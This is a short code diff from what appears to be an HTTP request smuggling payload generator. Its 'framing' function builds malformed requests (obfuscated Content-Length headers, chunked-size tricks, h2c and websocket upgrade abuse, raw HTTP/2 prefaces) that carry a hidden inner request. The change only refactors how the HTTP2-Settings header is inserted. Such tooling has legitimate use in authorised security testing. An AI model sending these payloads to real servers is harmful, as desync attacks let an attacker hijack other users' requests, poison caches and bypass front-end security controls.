@@ -298,7 +298,7 @@ def framing(domain: str) -> list[Try]:
         "Content-Length\x0b",
     ):
         post(f"{name}: {len(inner)}\r\n", inner)
-    size = f"{len(inner):x}"
+    size, settings = f"{len(inner):x}", "HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"
     for first in sizes(size):
         post(chunked, f"{first}\r\n{inner}\r\n{empty}{inner}")
     for body in (
@@ -332,7 +332,7 @@ def framing(domain: str) -> list[Try]:
         f"GET /x {INNER} HTTP/1.1\r\nHost: {domain}\r\nX-Try: @\r\n\r\n", f"GET /x HTTP/1.1{INNER} HTTP/1.1\r\nHost: {domain}\r\nX-Try: @\r\n\r\n",
         f"GET /x HTTP/1.1\r\nHost: {domain}\r\nX-Try: @\r\nExpect: 100-continue\r\nContent-Length: {len(inner)}\r\n\r\n{inner}",
         f"GET /x HTTP/1.1\r\nHost: {domain}\r\nX-Try: @\r\nExpect: x\r\n\r\n{inner}",
-        f"GET /x HTTP/1.1\r\nHost: {domain}\r\nX-Try: @\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{inner}",
+        f"GET /x HTTP/1.1\r\nHost: {domain}\r\nX-Try: @\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n{settings}PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{inner}",
         f"GET /x HTTP/1.1\r\nHost: {domain}\r\nX-Try: @\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777\r\n\r\n{inner}",
         f"POST /x HTTP/1.1\r\nHost: {domain}\r\nX-Try: @\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: {len(inner)}\r\n\r\n{inner}",
         f"GET /x HTTP/1.1\r\nHost: {domain}\r\nX-Try: @\r\nConnection: Upgrade\r\nUpgrade: TLS/1.0\r\n\r\n{inner}", f"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{inner}",
